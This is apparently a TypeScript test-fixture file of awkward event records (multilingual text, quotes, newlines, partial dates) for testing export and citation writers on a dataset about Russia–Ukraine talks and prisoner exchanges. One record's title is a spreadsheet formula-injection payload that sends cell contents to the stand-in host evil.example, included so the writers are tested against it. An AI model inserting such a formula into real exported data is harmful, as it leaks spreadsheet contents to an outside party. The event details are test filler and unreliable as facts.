import type { DatasetFile, EventRecord } from '../../../lib/data/dataset';

// Test data for the export and citation formats: the text that breaks naive writers.

export const vocabulary: DatasetFile['vocabulary'] = {
  parties: {
    RU: { name: 'Russia', type: 'country' },
    UA: { name: 'Ukraine', type: 'country' },
    TR: { name: 'Türkiye', type: 'country' },
    ID: { name: 'Indonesia', type: 'country' },
    US: { name: 'United States', type: 'country' },
    HU: { name: 'Hungary', type: 'country' },
    AE: { name: 'United Arab Emirates', type: 'country' },
  },
  tracks: {
    'russia-ukraine': { name: 'Russia–Ukraine talks', order: 1 },
    'us-russia': { name: 'US–Russia', order: 2 },
    'prisoner-exchanges': { name: 'Prisoner exchanges', order: 3 },
  },
};

const source = (url: string, publisher: string, language = 'en') => ({
  url,
  title: 'T',
  publisher,
  language,
});

/** Day precision; Cyrillic and Turkish text; commas, quotes, semicolons, newlines and a backslash. */
export const istanbul: EventRecord = {
  id: '2025-05-16-istanbul-talks-round-1',
  title: 'Переговоры в Стамбуле, раунд 1; "первый"',
  summary:
    'Delegations met at Dolmabahçe Sarayı, İstanbul; they agreed a "1,000-for-1,000" exchange.\n' +
    'Second line, with a backslash \\ and a tab\there.\r\nThird line after CRLF.',
  kind: 'negotiation-round',
  status: 'held',
  track: 'russia-ukraine',
  start: '2025-05-16',
  location: { place: 'İstanbul', venue: 'Dolmabahçe Sarayı', country: 'TR' },
  parties: ['RU', 'UA', 'TR'],
  participants: [
    { name: 'Vladimir Medinsky', role: "Head of Russia's delegation, presidential aide", party: 'RU' },
    { name: 'İbrahim Kalın', role: 'Head of MİT', party: 'TR' },
  ],
  outcomes: ['Agreed a 1,000-for-1,000 prisoner exchange', 'Each side to write "its vision"; later'],
  sources: [
    source('https://www.hurriyetdailynews.com/istanbul-talks-209262', 'Hürriyet Daily News'),
    source('https://censor.net/ru/news/3552673/peregovory-v-stambule', 'Цензор.НЕТ', 'ru'),
  ],
};

/** A title that a spreadsheet would run as a formula, and cells starting with + - @. */
export const formula: EventRecord = {
  id: '2025-05-30-formula-test',
  title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  summary: '@SUM(A1:A9)\nstill the same cell',
  kind: 'statement',
  status: 'held',
  track: 'russia-ukraine',
  start: '2025-05-30',
  end: '2025-06-02',
  parties: ['UA'],
  outcomes: ['-5 on the list', '+3 later'],
  sources: [source('https://example.org/a', 'Example')],
};

/** Month precision, cancelled, with a status change whose reason has commas and semicolons. */
export const budapest: EventRecord = {
  id: '2025-10-budapest-summit',
  title: 'Planned Trump–Putin summit in Budapest',
  summary: 'Announced, then called off.',
  kind: 'summit',
  status: 'cancelled',
  track: 'us-russia',
  start: '2025-10',
  statusChange: {
    date: '2025-10-22',
    reason: 'It "did not feel right"; no date, no venue, no agenda.',
    source: 'https://example.org/b',
  },
  location: { place: 'Budapest', country: 'HU' },
  parties: ['US', 'RU', 'HU'],
  sources: [source('https://example.org/b', 'People’s Daily (Xinhua)')],
};

/** Year precision only. */
export const yearOnly: EventRecord = {
  id: '2024-black-sea-contacts',
  title: 'Contacts on Black Sea shipping',
  summary: 'Reported during the year, with no date given.',
  kind: 'meeting',
  status: 'held',
  track: 'russia-ukraine',
  start: '2024',
  parties: ['RU', 'UA'],
  sources: [source('https://example.org/c', 'Example')],
};

/** A range across a year boundary, in Indonesian, cancelled, dated to the day. */
export const jakarta: EventRecord = {
  id: '2025-12-30-pertemuan-jakarta',
  title: 'Pertemuan di Jakarta tentang gencatan senjata, dibatalkan',
  summary:
    'Indonesia menawarkan diri menjadi tuan rumah; pertemuan tiga hari itu dibatalkan, kata Kementerian Luar Negeri. ' +
    'Переговоры в Стамбуле продолжатся позже 🇺🇦.',
  kind: 'meeting',
  status: 'cancelled',
  track: 'russia-ukraine',
  start: '2025-12-30',
  end: '2026-01-02',
  statusChange: { date: '2025-12-20', reason: 'Dibatalkan.', source: 'https://example.org/d' },
  location: { place: 'Jakarta', country: 'ID' },
  parties: ['ID', 'RU', 'UA'],
  sources: [source('https://example.org/d', 'Kompas', 'id')],
};

/** A range over 29 February. */
export const leap: EventRecord = {
  id: '2024-02-28-leap-talks',
  title: 'Talks over the leap day',
  summary: 'Two days.',
  kind: 'call',
  status: 'planned',
  track: 'russia-ukraine',
  start: '2024-02-28',
  end: '2024-02-29',
  parties: ['RU', 'UA'],
  sources: [source('https://example.org/e', 'Example')],
};

/**
 * A prisoner exchange with every optional field the others lack: figures, a date note, an announcement,
 * two discrepancies (claims with commas, quotes and "; "), related events, tags, former ids, and sources
 * with and without a date and an archived copy. Not in trickyEvents,
 * whose every event the calendar tests count.
 */
export const exchange: EventRecord = {
  id: '2024-08-24-prisoner-exchange-115-for-115',
  formerIds: ['2024-08-24-prisoner-exchange', '2024-08-24-uae-swap'],
  title: 'UAE-mediated 115-for-115 prisoner exchange',
  summary: 'Russia and Ukraine exchanged 115 prisoners of war each, with mediation by the UAE.',
  kind: 'prisoner-exchange',
  status: 'held',
  track: 'prisoner-exchanges',
  start: '2024-08-24',
  dateNote: 'Reported on 25 August by outlets in Asia, a day later than in Kyiv.',
  announced: '2024-08-23',
  parties: ['UA', 'RU', 'AE'],
  exchange: {
    toUkraine: 115,
    toRussia: 115,
    note: 'Russian servicemen captured in the Kursk region; Ukrainians from the National Guard, Navy, Border Guard.',
  },
  discrepancies: [
    {
      topic: 'Number released',
      accounts: [
        { claim: 'Kyiv: 115 "defenders" came home; more to follow', source: 'https://example.org/kyiv' },
        { claim: 'Moscow, citing the mediator: 115 each, 230 in all', source: 'https://example.org/moscow' },
      ],
    },
    {
      topic: 'Date, by time zone',
      accounts: [
        { claim: '24 August', source: 'https://example.org/kyiv' },
        { claim: '25 August, in Asia', source: 'https://example.org/asia?a=1;b=2' },
      ],
    },
  ],
  sources: [
    {
      ...source('https://example.org/kyiv', 'Kyiv outlet', 'uk'),
      title: 'Додому повернулися 115 захисників',
    },
    {
      ...source('https://example.org/moscow', 'Moscow outlet', 'ru'),
      title: 'Обмен: 115 на 115; посредник — ОАЭ',
      published: '2024-08-24',
      archiveUrl: 'https://web.archive.org/web/2024/https://example.org/moscow',
    },
    { ...source('https://example.org/asia?a=1;b=2', 'Asian outlet'), published: '2024-08-25' },
  ],
  related: [
    { id: '2024-06-25-prisoner-exchange-90-for-90', relation: 'follows' },
    { id: '2024-09-14-prisoner-exchange-103-for-103', relation: 'see-also' },
  ],
  tags: ['prisoner-exchange', 'uae-mediation', 'kursk'],
};

export const trickyEvents: EventRecord[] = [istanbul, formula, budapest, yearOnly, jakarta, leap];
